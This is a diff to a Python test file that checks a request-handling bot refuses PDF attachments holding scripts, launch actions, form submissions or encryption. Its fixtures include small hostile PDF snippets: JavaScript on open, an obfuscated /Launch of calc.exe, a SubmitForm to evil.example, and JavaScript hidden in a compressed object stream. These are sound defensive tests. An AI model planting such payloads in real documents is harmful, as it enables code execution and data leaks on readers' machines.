@@ -1,6 +1,7 @@
 """Others are weighed: as little as possible is left out, for a reason, and the letter says so (law.md rules 20, 22)."""
 
 import json
+import zlib
 from datetime import date
 from io import BytesIO
 from zipfile import ZipFile
@@ -19,12 +20,25 @@ from bot.core.rights import Entity, RequestType
 from bot.core.shelves import Shelf
 from bot.core.verdict import Outcome
 from bot.core.withholding import Where, Withheld
+from replies.markup import Paragraph
+from replies.pdf import to_pdf
 from tests.flow.conftest import ANN, KIM, LEE, TestDesk
 
 R = RequestType
 ASKED = "My data please. Bert Janssens knows more. Ann Peeters"
 NOTES = "Called by Bert  Janssens (bert@janssens.example), who pays for her; angry on 3 May."
 NOTES_PLACE = ("field", "notes")
+A_PDF = b"%%PDF-1.7\n1 0 obj << /Type /Catalog %b >> endobj\ntrailer << /Root 1 0 R >>\n%%%%EOF"
+OURS = to_pdf(
+    [Paragraph("/JavaScript is a word here.")], title="Bill", author="We", language="en", made_on=date(2026, 3, 2)
+)
+
+
+def packed(objects: bytes) -> bytes:
+    """Return objects as a stream that a catalogue's end is followed by (ISO 32000-2, 7.5.7)."""
+    return b">> endobj\n2 0 obj << /Type /ObjStm /Filter /FlateDecode >> stream\n%b\nendstream <<" % zlib.compress(
+        objects
+    )
 
 
 async def proven(desk: TestDesk, right: RequestType = R.ACCESS) -> str:
@@ -180,12 +194,37 @@ async def test_a_file_goes_along_sealed_weighed_and_is_destroyed_with_the_copy(d
         ("letter.docx", office(("word/embeddings/oleObject1.bin", b"")), "embedded objects"),
         ("letter.docx", office(("word/_rels/settings.xml.rels", OUTSIDE % b"attachedTemplate")), "links to other"),
         ("letter.docx", office(("word/_rels/document.xml.rels", b"<" * (1 << 21))), "links to other"),
+        ("bill.pdf", A_PDF % b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>", "holds scripts"),
+        ("bill.pdf", A_PDF % b"/AA << /O << /S /#4caunch /F (calc.exe) >> >>", "holds scripts"),
+        ("bill.pdf", A_PDF % b"/A << /S /SubmitForm /F (https://evil.example) >>", "forms that send"),
+        ("bill.pdf", A_PDF % packed(b"5 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"), "holds scripts"),
+        (
+            "bill.pdf",
+            (A_PDF % packed(b"5 0 << /S /GoTo >>")).replace(b"stream\n", b"stream\nnot deflated ", 1),
+            "nobody can see",
+        ),
+        ("bill.pdf", A_PDF % b"/Encrypt 9 0 R", "is locked"),
     ],
 )
 async def test_a_file_is_what_its_name_says_and_no_program(desk: TestDesk, name: str, data: bytes, why: str) -> None:
     case_id = await proven(desk)
     with pytest.raises(BadInput, match=why):
         await desk.redactions.attach(case_id, name, data, KIM)
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        OURS,
+        A_PDF % b"/A << /S /URI /URI (https://shop.example) >> /OpenAction [1 0 R /Fit] /EmbeddedFiles 3 0 R",
+        A_PDF % (packed(b"5 0 << /S /GoTo >>") + b" 7 0 obj << /Length 9 >> stream\n/JS /Launch endstream"),
+    ],
+    ids=["ours", "a link and an electronic invoice", "packed objects, and the words of a page"],
+)
+async def test_a_pdf_that_runs_nothing_goes_along_as_it_is(desk: TestDesk, data: bytes) -> None:
+    case_id = await proven(desk)
+    await desk.redactions.attach(case_id, "bill.pdf", data, KIM)
+    assert (await opened(desk, case_id)).read("bill.pdf") == data
 
 
 async def test_an_office_file_without_anything_that_runs_goes_along_as_it_is(desk: TestDesk) -> None:
